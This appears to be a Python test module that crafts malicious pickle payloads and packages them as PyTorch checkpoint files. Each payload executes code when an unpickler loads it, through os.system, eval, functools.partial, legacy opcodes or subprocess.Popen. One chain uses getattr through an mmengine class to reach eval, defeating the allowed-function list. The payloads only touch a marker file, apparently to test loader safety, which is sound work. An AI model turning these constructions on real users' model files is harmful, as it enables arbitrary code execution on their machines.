"""Files that run a program when an ordinary unpickler reads them."""

import io
import pickle
import struct
import zipfile
from pathlib import Path

import torch

EMPTY_DICT = b'}'
LEGACY_START = (
    0x1950A86A20F9469CFC6C,
    1001,
    dict(
        protocol_version=1001,
        little_endian=True,
        type_sizes=dict(short=2, int=4, long=4),
    ),
)


def text(value: str) -> bytes:
    """Return the operation that puts text on the stack."""
    content = value.encode()
    return b'X' + struct.pack('<I', len(content)) + content


def named(name: str) -> bytes:
    """Return the operation that puts what a name stands for on the stack."""
    module, _, attribute = name.rpartition('.')
    return f'c{module}\n{attribute}\n'.encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """Return the operations that call a function."""
    return function + b'(' + b''.join(arguments) + b'tR'


def program(marker: Path) -> str:
    """Return an expression in Python that makes a file."""
    return f'open({str(marker)!r}, "w").close()'


def by_getattr(marker: Path) -> bytes:
    """Reach ``eval`` with the two functions that mmengine and PyTorch allow.

    The first gets any attribute of a class that is allowed too, the second
    calls what it is given.
    """
    get, run = (
        named('builtins.getattr'),
        named('torch._tensor._rebuild_from_type_v2'),
    )
    history = named('mmengine.logging.history_buffer.HistoryBuffer')
    method = call(get, history, text('__init__'))
    builtins = call(get, method, text('__builtins__'))
    of_builtins = call(get, builtins, text('get'))
    kind = call(get, get, text('__class__'))
    evaluate = call(run, of_builtins, kind, text('eval') + b'\x85', b'N')
    nothing = call(get, b'N', text('__class__'))
    return call(run, evaluate, nothing, text(program(marker)) + b'\x85', b'N')


def by_eval(marker: Path) -> bytes:
    return call(named('builtins.eval'), text(program(marker)))


def by_system(marker: Path) -> bytes:
    return call(named('os.system'), text(f'touch {marker}'))


def by_partial(marker: Path) -> bytes:
    partial = named('functools.partial')
    return call(call(partial, named('builtins.eval'), text(program(marker))))


def by_instance(marker: Path) -> bytes:
    """Call with an operation of the oldest protocol (INST)."""
    return b'(' + text(f'touch {marker}') + b'ios\nsystem\n'


def by_object(marker: Path) -> bytes:
    """Call with another old operation (OBJ)."""
    return b'(' + named('os.system') + text(f'touch {marker}') + b'o'


def by_new_object(marker: Path) -> bytes:
    """Make an object of a class that runs a program."""
    arguments = b'(' + text('touch') + text(str(marker)) + b'l\x85'
    return named('subprocess.Popen') + arguments + b'R'


PAYLOADS = (
    *(by_getattr, by_eval, by_system, by_partial),
    *(by_instance, by_object, by_new_object),
)


def pickled(payload: bytes) -> bytes:
    """Return a pickle of a checkpoint with a payload in its meta."""
    return (
        b'\x80\x02}(' + text('state_dict') + b'}' + text('meta') + payload
    ) + b'u.'


def zip_file(content: bytes) -> bytes:
    """Return a file of PyTorch 1.6 or later with this pickle."""
    base, result = io.BytesIO(), io.BytesIO()
    torch.save({}, base)
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(result, 'w') as out:
        for name in source.namelist():
            entry = source.read(name)
            out.writestr(name, content if 'data.pkl' in name else entry)
    return result.getvalue()


def legacy_file(content: bytes) -> bytes:
    """Return a file of PyTorch before 1.6 with this pickle."""
    start = b''.join(pickle.dumps(part, 2) for part in LEGACY_START)
    return start + content + pickle.dumps([], 2)


def plain_pickle(content: bytes) -> bytes:
    """Return a pickle as detectron2 writes it."""
    return content


def nested_file(content: bytes) -> bytes:
    """Return a pickle with a tensor whose storage is a crafted file."""
    inner = zip_file(content)
    storage = b'B' + struct.pack('<I', len(inner)) + inner
    load = call(named('torch.storage._load_from_bytes'), storage)
    return b'\x80\x03}(' + text('model') + b'}' + text('x') + load + b'u.'


CONTAINERS = (zip_file, legacy_file, plain_pickle, nested_file)
